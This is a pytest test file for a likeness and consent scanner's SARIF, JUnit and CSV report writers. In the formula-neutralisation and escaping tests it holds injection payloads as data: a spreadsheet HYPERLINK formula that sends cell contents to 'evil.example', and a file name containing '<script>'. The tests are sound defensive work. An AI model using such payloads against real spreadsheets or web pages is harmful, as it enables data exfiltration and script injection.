"""SARIF, JUnit XML and CSV outputs, written from one real scan of a few sample recordings.

The scan runs once per module on copies of two sample recordings, a zero-byte file (unreadable)
and a copy of the team photo under a name full of XML/HTML special characters.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote

import pytest

from scanner.models import Finding, Level, ScanResult, SuppressedFinding, Waiver
from scanner.outputs.csv_report import COLUMNS, CsvWriter, neutralise
from scanner.outputs.document import format_ranges
from scanner.outputs.junit_report import JunitWriter
from scanner.outputs.sarif_report import FINGERPRINT_KEY, SECURITY_SEVERITY, SarifWriter
from scanner.pipeline.scan import ScanOptions, run_scan
from scanner.policy.consent.records import load_consent
from scanner.policy.rules import RULES

SARIF_SCHEMA = Path(__file__).resolve().parents[1].parent / "shared" / "schemas" / "sarif-schema-2.1.0.json"
ODD_NAME = "<script>&\"' photo.jpg"
# RFC 3986 characters of a URI reference (percent escapes included); anything else must be encoded.
URI_CHARS = re.compile(r"^[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]*$")


@pytest.fixture(scope="module")
def scan_root(sample_data: Path, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("outputs-scan")
    shutil.copy(sample_data / "recordings" / "team_photo.jpg", root / "team_photo.jpg")
    shutil.copy(sample_data / "recordings" / "voice_memo.m4a", root / "voice_memo.m4a")
    (root / "empty.mp4").write_bytes(b"")
    (root / "clips").mkdir()
    shutil.copy(sample_data / "recordings" / "team_photo.jpg", root / "clips" / ODD_NAME)
    return root


@pytest.fixture(scope="module")
def result(sample_data: Path, scan_root: Path) -> ScanResult:
    inputs = [scan_root / "team_photo.jpg", scan_root / "voice_memo.m4a", scan_root / "empty.mp4",
              scan_root / "clips" / ODD_NAME]
    res = run_scan(inputs, load_consent(sample_data / "consent.yaml"),
                   ScanOptions(purposes=["ai-training"], as_of=dt.date(2026, 11, 27), fail_on=Level.HIGH))
    assert res.root is not None and res.root.resolve() == scan_root.resolve()
    assert res.failing_findings(), "the sample scan should fail at high"
    assert any(f.severity < Level.HIGH for f in res.shown_findings()), "and hold findings below high"
    return res


@pytest.fixture(scope="module")
def sarif_schema() -> dict:
    if not SARIF_SCHEMA.is_file():
        pytest.skip(f"official SARIF schema not present at {SARIF_SCHEMA}")
    return json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))


def _validate_sarif(log: dict, schema: dict) -> None:
    import jsonschema

    cls = jsonschema.validators.validator_for(schema)
    assert cls is jsonschema.Draft4Validator  # the schema declares draft-04
    cls.check_schema(schema)
    errors = sorted(cls(schema, format_checker=cls.FORMAT_CHECKER).iter_errors(log), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])


def _write_all(result: ScanResult, out: Path) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    return {w.format: w.write(result, out) for w in (SarifWriter(), JunitWriter(), CsvWriter())}


def _sarif(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def _csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _waived(result: ScanResult, finding: Finding, reason: str = "Accepted for the Q4 release") -> ScanResult:
    """A copy of `result` with `finding` moved under a waiver."""
    waiver = Waiver(reason=reason, approved_by="dpo@example.org", expires="2027-01-31",
                    fingerprint=finding.fingerprint)
    return dataclasses.replace(
        result,
        findings=[f for f in result.findings if f is not finding],
        suppressed=[*result.suppressed, SuppressedFinding(finding, waiver)],
    )


def _rel(result: ScanResult, recording: Path) -> str:
    return recording.resolve().relative_to(result.root.resolve()).as_posix()


# --------------------------------------------------------------------------------------------
# SARIF
# --------------------------------------------------------------------------------------------


def test_sarif_validates_against_the_official_schema(result, sarif_schema, tmp_path):
    log = _sarif(_write_all(result, tmp_path)["sarif"])
    _validate_sarif(log, sarif_schema)
    assert log["version"] == "2.1.0"
    assert len(log["runs"]) == 1


def test_sarif_rules_come_from_the_policy_table(result, tmp_path):
    run = _sarif(_write_all(result, tmp_path)["sarif"])["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "likeness"
    assert "informationUri" not in driver
    rules = driver["rules"]
    assert [r["id"] for r in rules[: len(RULES)]] == [r.id for r in RULES]
    for descriptor, rule in zip(rules, RULES):
        assert descriptor["name"] == rule.name
        assert descriptor["shortDescription"]["text"] == rule.title
        assert descriptor["help"]["text"] == rule.remedy
        assert descriptor["properties"]["security-severity"] == SECURITY_SEVERITY[rule.severity]
        float(descriptor["properties"]["security-severity"])
        assert "security" in descriptor["properties"]["tags"]
        want = {"critical": "error", "high": "error", "medium": "warning", "low": "note"}.get(rule.severity.value)
        if want:
            assert descriptor["defaultConfiguration"]["level"] == want


def test_sarif_has_one_result_per_shown_finding(result, tmp_path):
    run = _sarif(_write_all(result, tmp_path)["sarif"])["runs"][0]
    shown = result.shown_findings()
    results = run["results"]
    assert len(results) == len(shown)
    rules = run["tool"]["driver"]["rules"]
    for res, finding in zip(results, shown):
        assert res["ruleId"] == finding.rule_id
        assert rules[res["ruleIndex"]]["id"] == finding.rule_id
        assert res["partialFingerprints"] == {FINGERPRINT_KEY: finding.fingerprint}
        assert res["level"] == {"critical": "error", "high": "error", "medium": "warning", "low": "note"}[
            finding.severity.value]
        assert res["message"]["text"].startswith(finding.message.rstrip())
        assert "suppressions" not in res
        props = res["properties"]
        assert props["severity"] == finding.severity.value
        assert props["person_id"] == finding.person_id and props["subject_id"] == finding.subject_id
        assert props["evidence"] == finding.evidence
        # One location per recording, relative to the scan root, no lines (media have none).
        assert len(res["locations"]) == len(finding.recordings)
        for loc, recording in zip(res["locations"], finding.recordings):
            art = loc["physicalLocation"]["artifactLocation"]
            assert art["uriBaseId"] == "SRCROOT"
            assert unquote(art["uri"]) == _rel(result, recording)
            assert "region" not in loc["physicalLocation"]
            assert run["artifacts"][art["index"]]["location"]["uri"] == art["uri"]
        # The time ranges are in the message.
        for recording in finding.recordings:
            for r in finding.time_ranges.get(str(recording), []):
                assert format_ranges([{"start": round(r.start, 2), "end": round(r.end, 2)}]) in res["message"]["text"]
    timed = [r for r in results if re.search(r"\d:\d\d\.\d-\d:\d\d\.\d", r["message"]["text"])]
    assert timed, "findings on the voice memo carry time ranges such as 0:00.3-0:08.2"


def test_sarif_artifacts_invocation_and_root(result, tmp_path):
    run = _sarif(_write_all(result, tmp_path)["sarif"])["runs"][0]
    assert run["originalUriBaseIds"]["SRCROOT"]["uri"] == result.root.resolve().as_uri() + "/"
    by_uri = {unquote(a["location"]["uri"]): a for a in run["artifacts"]}
    for rec in result.recordings:
        artifact = by_uri[_rel(result, rec.path)]
        assert artifact["hashes"] == {"sha-256": rec.sha256}
        assert artifact["length"] == rec.size_bytes
        assert artifact["properties"]["status"] == rec.status.value
    for artifact in run["artifacts"]:
        assert URI_CHARS.match(artifact["location"]["uri"]), artifact["location"]["uri"]
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is True
    assert invocation["exitCode"] == (1 if result.failing_findings() else 0)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", invocation["startTimeUtc"])


def test_sarif_is_stable_across_writes(result, tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = _sarif(SarifWriter().write(result, tmp_path / "a"))
    second = _sarif(SarifWriter().write(result, tmp_path / "b"))
    key = [(r["ruleId"], r["partialFingerprints"][FINGERPRINT_KEY]) for r in first["runs"][0]["results"]]
    assert key == [(r["ruleId"], r["partialFingerprints"][FINGERPRINT_KEY]) for r in second["runs"][0]["results"]]
    assert first["runs"][0]["tool"] == second["runs"][0]["tool"]


def test_no_biometric_vector_reaches_any_output(result, tmp_path):
    paths = _write_all(result, tmp_path)
    vectors = [c.encodings for p in result.people for s in p.faces for c in [s.cluster]]
    vectors += [s.speaker.voiceprint for p in result.people for s in p.voices]
    assert vectors, "the scan should have measured faces and voices"

    def long_number_lists(node) -> int:
        if isinstance(node, list):
            own = 1 if len(node) >= 32 and all(isinstance(x, (int, float)) for x in node) else 0
            return own + sum(long_number_lists(x) for x in node)
        if isinstance(node, dict):
            return sum(long_number_lists(x) for x in node.values())
        return 0

    assert long_number_lists(_sarif(paths["sarif"])) == 0
    texts = [p.read_text(encoding="utf-8") for p in paths.values()]
    for vector in vectors:
        for value in vector.ravel()[:8]:
            needle = repr(float(value))
            if len(needle) >= 8:  # long enough not to match by chance
                assert all(needle not in text for text in texts), needle


def test_sarif_gives_unknown_rules_a_descriptor(result, sarif_schema, tmp_path):
    base = result.shown_findings()[0]
    extra = dataclasses.replace(base, rule_id="LK999", rule_name="future-rule", title="A rule added later",
                                fingerprint="f" * 32)
    log = SarifWriter().build(dataclasses.replace(result, findings=[*result.findings, extra]))
    _validate_sarif(log, sarif_schema)
    run = log["runs"][0]
    (res,) = [r for r in run["results"] if r["ruleId"] == "LK999"]
    assert run["tool"]["driver"]["rules"][res["ruleIndex"]]["id"] == "LK999"


# --------------------------------------------------------------------------------------------
# Waived findings
# --------------------------------------------------------------------------------------------


def test_a_waived_finding_is_listed_as_suppressed_and_does_not_fail(result, sarif_schema, tmp_path):
    unreadable = next(f for f in result.findings if f.rule_id == "LK006")
    waived = _waived(result, unreadable, reason="=HYPERLINK(\"http://x\") file is being re-exported")
    paths = _write_all(waived, tmp_path)

    log = _sarif(paths["sarif"])
    _validate_sarif(log, sarif_schema)
    results = log["runs"][0]["results"]
    assert len(results) == len(waived.shown_findings()) + 1
    (sup,) = [r for r in results if "suppressions" in r]
    assert sup["partialFingerprints"][FINGERPRINT_KEY] == unreadable.fingerprint
    assert sup["suppressions"][0]["kind"] == "external"
    assert sup["suppressions"][0]["justification"].endswith("file is being re-exported")

    rows = _csv(paths["csv"])
    (row,) = [r for r in rows if r["fingerprint"] == unreadable.fingerprint]
    assert row["status"] == "suppressed"
    assert row["waiver_expires"] == "2027-01-31"
    assert row["waiver_reason"].startswith("'=")  # neutralised as a formula
    assert {r["status"] for r in rows if r["fingerprint"] != unreadable.fingerprint} == {"open"}

    suite = ET.parse(paths["junit"]).getroot().find("testsuite")
    empty = next(c for c in suite.iter("testcase") if c.get("name", "").endswith("empty.mp4"))
    assert empty.find("failure") is None
    assert "suppressed by waiver" in empty.find("system-out").text
    base_failures = int(JunitWriter().build(result).get("failures"))
    assert int(suite.get("failures")) == base_failures - 1


# --------------------------------------------------------------------------------------------
# JUnit
# --------------------------------------------------------------------------------------------


def _expected_failed_recordings(result: ScanResult) -> set[str]:
    return {str(p) for f in result.failing_findings() for p in f.recordings}


def test_junit_one_case_per_recording_with_failures_at_fail_on(result, tmp_path):
    root = ET.parse(_write_all(result, tmp_path)["junit"]).getroot()
    assert root.tag == "testsuites"
    (suite,) = root.findall("testsuite")
    assert suite.get("name") == "likeness"
    cases = suite.findall("testcase")
    assert [c.get("name") for c in cases] == [str(r.path) for r in result.recordings]
    assert {c.get("classname") for c in cases} == {"likeness.recordings"}
    failed = {c.get("name") for c in cases if c.find("failure") is not None}
    assert failed == _expected_failed_recordings(result)
    for element in (root, suite):
        assert int(element.get("tests")) == len(cases)
        assert int(element.get("failures")) == len(failed)
        assert int(element.get("errors")) == 0
        assert int(element.get("skipped")) == 0
        assert float(element.get("time")) >= 0
    for case in cases:
        failure = case.find("failure")
        name = case.get("name")
        failing_here = [f for f in result.failing_findings() if name in map(str, f.recordings)]
        below = [f for f in result.shown_findings() if f.severity < result.fail_on and name in map(str, f.recordings)]
        if failure is not None:
            assert failure.get("type").split(",") == list(dict.fromkeys(f.rule_id for f in failing_here))
            for f in failing_here:
                assert f.message in failure.text and f.remedy in failure.text
                assert f.severity.value in failure.text
        for f in below:
            assert f.message in case.find("system-out").text
    # The unreadable recording fails through its finding.
    empty = next(c for c in cases if c.get("name").endswith("empty.mp4"))
    assert empty.find("failure").get("type") == "LK006"


def test_junit_follows_fail_on(result):
    assert JunitWriter().build(dataclasses.replace(result, fail_on=Level.NONE)).get("failures") == "0"
    low = dataclasses.replace(result, fail_on=Level.LOW)
    assert int(JunitWriter().build(low).get("failures")) == len(_expected_failed_recordings(low))
    # A failing finding below the shown floor still fails its recording (the exit code will).
    hidden = dataclasses.replace(result, show_from=Level.CRITICAL)
    assert int(JunitWriter().build(hidden).get("failures")) == len(_expected_failed_recordings(result))


def test_junit_scan_wide_finding_gets_a_case(result):
    base = result.failing_findings()[0]
    orphan = dataclasses.replace(base, rule_id="LK998", recordings=[], time_ranges={}, fingerprint="e" * 32)
    suite = JunitWriter().build(dataclasses.replace(result, findings=[*result.findings, orphan])).find("testsuite")
    (case,) = [c for c in suite.findall("testcase") if c.get("classname") == "likeness.scan"]
    assert case.find("failure").get("type") == "LK998"


def test_junit_parses_with_junitparser(result, tmp_path):
    junitparser = pytest.importorskip("junitparser")
    xml = junitparser.JUnitXml.fromfile(str(_write_all(result, tmp_path)["junit"]))
    suites = list(xml) if not isinstance(xml, junitparser.TestSuite) else [xml]
    cases = [c for s in suites for c in s]
    assert len(cases) == len(result.recordings)
    assert sum(1 for c in cases if not c.is_passed) == len(_expected_failed_recordings(result))


# --------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------


def test_csv_one_row_per_finding_per_recording(result, tmp_path):
    path = _write_all(result, tmp_path)["csv"]
    with path.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == list(COLUMNS)
    rows = _csv(path)
    shown = result.shown_findings()
    assert len(rows) == sum(max(1, len(f.recordings)) for f in shown)
    for finding in shown:
        mine = [r for r in rows if r["fingerprint"] == finding.fingerprint]
        assert [r["recording"] for r in mine] == ([str(p) for p in finding.recordings] or [""])
        for row in mine:
            assert row["rule_id"] == finding.rule_id and row["severity"] == finding.severity.value
            assert row["status"] == "open" and row["message"] == neutralise(finding.message)
            ranges = finding.time_ranges.get(row["recording"], [])
            if ranges:
                assert float(row["start"]) == round(min(r.start for r in ranges), 2)
                assert re.fullmatch(r"\d+:\d\d\.\d(-\d+:\d\d\.\d)?(; \d+:\d\d\.\d(-\d+:\d\d\.\d)?)*",
                                    row["time_ranges"])


def test_csv_neutralises_formulas(result, tmp_path):
    first = result.shown_findings()[0]
    evil = dataclasses.replace(first, message='=HYPERLINK("http://evil.example/?"&A1,"click")',
                               person_id="@SUM(1+1)", title="+cmd", remedy="-2+3")
    rows = CsvWriter().rows(dataclasses.replace(result, findings=[evil, *result.findings[1:]]))
    assert rows[0]["message"].startswith("=")  # the raw rows are untouched ...
    out = CsvWriter().write(dataclasses.replace(result, findings=[evil, *result.findings[1:]]), tmp_path)
    row = _csv(out)[0]
    assert row["message"] == "'" + evil.message  # ... the written cells are not formulas
    assert row["person_id"] == "'@SUM(1+1)"
    assert row["title"] == "'+cmd"
    assert row["remedy"] == "'-2+3"
    for value in ("\tx", "\rx", "=1", "+1", "-1", "@a"):
        assert neutralise(value) == "'" + value
    for value in ("plain", "0:01.0-0:18.5", "", None, "a=b"):
        assert not neutralise(value).startswith("'")


# --------------------------------------------------------------------------------------------
# Special characters in recording names
# --------------------------------------------------------------------------------------------


def test_special_characters_in_names_are_escaped_everywhere(result, scan_root, sarif_schema, tmp_path):
    from scanner.outputs.html_report import HtmlWriter
    from scanner.outputs.json_report import JsonWriter

    odd = str(scan_root / "clips" / ODD_NAME)
    assert odd in {str(r.path) for r in result.recordings}
    paths = _write_all(result, tmp_path)

    # JUnit: well-formed, and the parsed name is the exact path.
    raw_xml = paths["junit"].read_text(encoding="utf-8")
    assert "<script>" not in raw_xml
    names = [c.get("name") for c in ET.fromstring(raw_xml.encode("utf-8")).iter("testcase")]
    assert odd in names

    # SARIF: valid, the URI is percent-encoded and decodes to the relative path.
    log = _sarif(paths["sarif"])
    _validate_sarif(log, sarif_schema)
    uris = [a["location"]["uri"] for a in log["runs"][0]["artifacts"]]
    assert "clips/%3Cscript%3E%26%22%27%20photo.jpg" in uris
    assert all(URI_CHARS.match(u) for u in uris)

    # CSV: the exact path round-trips.
    assert odd in {r["recording"] for r in _csv(paths["csv"])}

    # HTML and JSON, written alongside: no live markup, exact path in the JSON.
    html = HtmlWriter().write(result, tmp_path).read_text(encoding="utf-8")
    assert "<script>&" not in html
    doc = json.loads(JsonWriter().write(result, tmp_path).read_text(encoding="utf-8"))
    assert odd in {r["path"] for r in doc["recordings"]}


def test_unprintable_and_undecodable_names_do_not_break_the_files(result, sarif_schema, tmp_path):
    """File names may hold control characters or bytes that are not UTF-8; every file stays well-formed."""
    weird = copy.copy(result)
    old = result.recordings[0].path
    new = old.with_name("bell\x07 and \udcff byte.jpg")
    weird.recordings = [dataclasses.replace(r, path=new) if r.path == old else r for r in result.recordings]
    weird.findings = [
        dataclasses.replace(
            f,
            recordings=[new if p == old else p for p in f.recordings],
            time_ranges={(str(new) if k == str(old) else k): v for k, v in f.time_ranges.items()},
        )
        for f in result.findings
    ]
    paths = _write_all(weird, tmp_path)
    _validate_sarif(_sarif(paths["sarif"]), sarif_schema)
    names = [c.get("name") for c in ET.parse(paths["junit"]).getroot().iter("testcase")]
    assert any(n.startswith(str(old.parent)) and "bell\\x07" in n for n in names)
    assert len(_csv(paths["csv"])) == len(CsvWriter().rows(weird))
